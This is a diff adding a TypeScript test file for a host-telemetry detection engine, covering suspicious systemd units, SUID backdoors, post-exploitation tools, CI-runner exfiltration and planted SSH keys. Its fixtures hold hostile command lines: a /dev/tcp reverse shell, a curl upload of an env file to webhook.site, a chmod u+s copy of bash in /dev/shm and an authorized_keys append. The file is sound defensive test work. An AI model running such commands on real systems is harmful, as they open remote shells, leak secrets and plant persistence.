@@ -1,0 +1,90 @@
+// Attacks seen through the contract's core tables only (processes, shell_history, hash, systemd_units, ...): a fleet
+// that does not carry augeas, file or process_memory_map must still show them. Each case also has its look-alike.
+import { test } from "tap";
+import { extractEntities, getDetection, routeQuery } from "../../shared/engine/index.js";
+import type { DetectionHit, HostData, QueryEntities } from "../../shared/engine/index.js";
+import { setuidTargets } from "../../shared/engine/detections/unexpected-suid.js";
+import { host, proc } from "./helpers.js";
+
+const none: QueryEntities = { ips: [], sha256: [], advisories: [], users: [], ports: [], paths: [], domains: [], tags: {} };
+function run(id: string, h: HostData, entities: Partial<QueryEntities> = {}): DetectionHit[] {
+  const d = getDetection(id);
+  if (!d) throw new Error(`no detection ${id}`);
+  return d.evaluate(h, { entities: { ...none, ...entities } }).filter((x) => x.kept_by === undefined);
+}
+
+test("systemd unit: without augeas, the unit's processes (cgroup_path) show what it runs", async (t) => {
+  const unit = { id: "network-helper.service", fragment_path: "/etc/systemd/system/network-helper.service", active_state: "active" };
+  const bad = host({
+    systemd_units: [unit],
+    processes: [proc(900, "bash", "/usr/bin/bash", "/bin/bash -c bash -i >& /dev/tcp/203.0.113.9/443 0>&1", { cgroup_path: "/system.slice/network-helper.service" })],
+  });
+  const hits = run("suspicious-systemd-unit", bad);
+  t.equal(hits.length, 1);
+  t.match(hits[0]?.summary ?? "", /network-helper\.service/);
+  t.ok(hits[0]?.evidence.some((e) => e.table === "processes"), "the process row is the evidence of what the unit runs");
+  const nginx = host({
+    systemd_units: [{ id: "nginx.service", fragment_path: "/lib/systemd/system/nginx.service", active_state: "active" }],
+    processes: [proc(901, "nginx", "/usr/sbin/nginx", "nginx: master process /usr/sbin/nginx -g daemon on; master_process on;", { cgroup_path: "/system.slice/nginx.service" })],
+  });
+  t.same(run("suspicious-systemd-unit", nginx), [], "a packaged service's process is not a finding");
+});
+
+test("unexpected SUID: a chmod u+s in shell history and a process running as euid 0 from a temp directory", async (t) => {
+  t.same(setuidTargets("cp /bin/bash /dev/shm/... && chmod u+s /dev/shm/..."), ["/dev/shm/..."]);
+  t.same(setuidTargets("chmod 4755 /var/tmp/.x"), ["/var/tmp/.x"]);
+  t.same(setuidTargets("chmod 0755 /usr/local/bin/tool"), [], "no SUID bit in the mode");
+  t.same(setuidTargets("chmod -R g+w /srv/www"), []);
+  const history = host({ shell_history: [{ uid: "0", command: "chmod u+s /dev/shm/...", history_file: "/root/.bash_history" }] });
+  const hits = run("unexpected-suid", history);
+  t.equal(hits.length, 1);
+  t.equal(hits[0]?.evidence[0]?.table, "shell_history");
+  const running = host({ processes: [proc(77, "...", "/dev/shm/...", "/dev/shm/... -p", { uid: "1001", euid: "0" })] });
+  t.equal(run("unexpected-suid", running).length, 1, "a program in /dev/shm running as root for uid 1001");
+  const sudo = host({ processes: [proc(78, "sudo", "/usr/bin/sudo", "sudo -i", { uid: "1001", euid: "0" })], shell_history: [{ uid: "0", command: "chmod u+s /usr/bin/ping", history_file: "/root/.bash_history" }] });
+  t.same(run("unexpected-suid", sudo), [], "sudo running as root and a packaged binary made SUID again are not findings");
+});
+
+test("post-exploitation tools by file name; ordinary admin tools and look-alike directories stay quiet", async (t) => {
+  const bad = host({ hash: [{ path: "/root/mimipenguin.sh", sha256: "ab".repeat(32) }] });
+  const hits = run("offensive-tool-present", bad);
+  t.equal(hits.length, 1);
+  t.match(hits[0]?.summary ?? "", /mimipenguin/);
+  t.equal(hits[0]?.severity, undefined, "on disk only: the detection's default (medium), not high");
+  const plan = routeQuery("is that hacking tool from the threat report on any box?", "standard");
+  t.ok(plan.detection_ids.includes("offensive-tool-present"));
+  t.ok(routeQuery("is chisel installed on any of our servers?", "standard").detection_ids.includes("offensive-tool-present"));
+});
+
+test("CI runner: an upload to a request-capture service is flagged like one to a bare IP", async (t) => {
+  const runner = (cmd: string): HostData =>
+    host({ processes: [proc(10, "curl", "/usr/bin/curl", cmd, { uid: "1600" })] }, { role: "ci-runner" });
+  const hits = run("ci-runner-egress", runner("curl -sm 0.5 -d @/tmp/env.txt https://webhook.site/0b7c1a2e-1111-2222-3333-444455556666"));
+  t.equal(hits.length, 1);
+  t.equal(hits[0]?.severity, "high");
+  t.match(hits[0]?.summary ?? "", /webhook\.site/);
+  t.same(run("ci-runner-egress", runner("curl -fsS -X POST -d @report.json https://api.github.com/repos/o/r/statuses/abc")), [], "posting to GitHub's API is not exfiltration");
+});
+
+test("domains named in the question are indicators; internal host names are scope", async (t) => {
+  t.same(extractEntities("any sign of https://webhook.site in the fleet?").domains, ["webhook.site"]);
+  t.same(extractEntities("did anything reach transfer.sh or evil.example.com?").domains, ["evil.example.com", "transfer.sh"]);
+  t.same(extractEntities("look over db-05.dub.internal and node.js apps").domains, []);
+  t.same(extractEntities("find /tmp/... across dev").paths, ["/tmp/..."]);
+  const h = host({ processes: [proc(5, "curl", "/usr/bin/curl", "curl -d @/tmp/env.txt https://x1.webhook.site/abc")] });
+  const hits = run("ioc-match", h, { domains: ["webhook.site"] });
+  t.equal(hits.length, 1);
+  t.same(run("ioc-match", host({ processes: [proc(6, "curl", "/usr/bin/curl", "curl https://notwebhook.site/")] }), { domains: ["webhook.site"] }), []);
+  t.ok(routeQuery("any sign of https://webhook.site in the fleet?", "standard").detection_ids.includes("ioc-match"));
+});
+
+test("SSH key appended to authorized_keys by hand from a shell is a signal on an interactive account", async (t) => {
+  const users = [{ uid: "1001", username: "alice", shell: "/bin/bash", directory: "/home/alice" }];
+  const key = { uid: "1001", algorithm: "ssh-rsa", key: `AAAAB3NzaC1yc2E${"Q".repeat(60)}`, options: "", comment: "user@localhost", key_file: "/home/alice/.ssh/authorized_keys" };
+  const planted = host({ users, authorized_keys: [key], shell_history: [{ uid: "1001", command: `echo "ssh-rsa ${key.key.slice(0, 50)}... user@localhost" >> ~/.ssh/authorized_keys`, history_file: "/home/alice/.bash_history" }] });
+  const hits = run("ssh-authorized-key", planted);
+  t.equal(hits.length, 1);
+  t.ok(hits[0]?.evidence.some((e) => e.table === "shell_history"));
+  t.same(run("ssh-authorized-key", host({ users, authorized_keys: [{ ...key, comment: "alice@laptop" }] })), [], "alice's own key, no hand edit: quiet");
+  t.ok(routeQuery("could someone log into api-06 without a password whenever they want?", "standard").detection_ids.includes("ssh-authorized-key"));
+});
